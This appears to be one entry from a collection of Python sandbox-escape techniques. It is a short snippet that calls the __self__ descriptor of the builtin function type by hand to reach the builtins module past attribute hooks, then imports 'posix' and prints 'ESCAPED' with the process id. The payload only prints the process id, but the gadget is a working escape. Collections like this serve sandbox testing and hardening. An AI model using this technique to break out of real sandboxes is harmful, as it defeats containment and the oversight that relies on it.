# technique: the getset descriptor of __self__ called by hand
# goal: builtins
# source: descriptors outlive attribute hooks
kind = type(len)
module = kind.__dict__['__self__'].__get__(len)
print('ESCAPED pid=%d' % module.__import__('posix').getpid())
